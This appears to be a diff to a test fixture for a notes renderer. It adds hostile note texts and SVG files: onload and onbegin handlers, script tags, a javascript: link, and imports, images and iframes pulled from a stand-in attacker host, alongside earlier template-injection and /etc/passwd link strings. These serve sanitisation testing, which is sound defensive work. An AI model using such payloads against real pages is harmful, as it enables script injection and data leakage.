@@ -78,6 +78,9 @@ IN_TEXT = (
     f"<%= {RUN} %> {{{{constructor.constructor('{RUN}')()}}}} ${{{RUN}}}",
     '<a href="obsidian://open?path=/etc/passwd">x</a> [y](obsidian://advanced-uri?eval=1)',
     f"__proto__ constructor toString <x t=script text={RUN}>",
+    f"![[pic <svg onload={RUN}>.svg|300]]",
+    "![[HOSTILE_PICTURE.svg]]",
+    "![[text 00]] ![[board.canvas]]",
     f"\u202e<img src=x onerror={RUN}>\u2028<script>{RUN}</script>\x0b",
 )
 """Each is the text of one note."""
@@ -113,7 +116,19 @@ def hostile_notes() -> Mapping[str, str]:
         for number, front in enumerate(IN_FRONTMATTER)
     }
     texts |= dict.fromkeys(IN_NAMES, "A name that is code.")
-    texts[f"pic <svg onload={RUN}>.svg"] = f"<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>"
+    texts[f"pic <svg onload={RUN}>.svg"] = (
+        f"<svg xmlns='http://www.w3.org/2000/svg' width='20' height='20' onload='{RUN}'/>"
+    )
+    texts["HOSTILE_PICTURE.svg"] = (
+        "<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'"
+        " width='20' height='20'>"
+        f"<style>@import url({EVIL}/x.css);</style><script>{RUN}</script><script href='{EVIL}/x.js'/>"
+        f"<image href='{EVIL}/pixel.png' width='9' height='9'/><use xlink:href='{EVIL}/x.svg#a'/>"
+        f"<animate onbegin='{RUN}' attributeName='x' dur='1s'/>"
+        f"<a href='javascript:{RUN}'><text y='9'>x</text></a>"
+        f"<foreignObject width='9' height='9'><iframe xmlns='http://www.w3.org/1999/xhtml' src='{EVIL}'/>"
+        "</foreignObject></svg>"
+    )
     card = {
         "id": "1",
         "type": "text",
